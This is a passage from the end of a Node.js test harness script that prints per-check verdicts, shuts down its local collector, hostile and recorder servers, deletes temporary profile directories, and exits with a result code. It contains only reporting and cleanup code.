    console.log(`  ${tag}  ${c.name.padEnd(28)} ${c.verdict}${c.listed === false ? ' (beyond the brief)' : ''}`);
  }
  console.log(`${args.label}: ${verdict} (exit ${exitCode}; ${path.basename(art('-result.json'))})`);
  for (const s of [collector, hostile, recorder]) {
    s.closeAllConnections?.();
    s.close();
  }
  for (const p of profiles) fs.rmSync(p, { recursive: true, force: true, maxRetries: 2 });
  return exitCode;
}

try {
  await run();
} catch (e) {
  harnessError = e;
  log(`harness error: ${e && e.stack}`);
  console.error(`${args.label}: harness error: ${e && e.message}`);
}
const code = await finish();
process.exit(code);
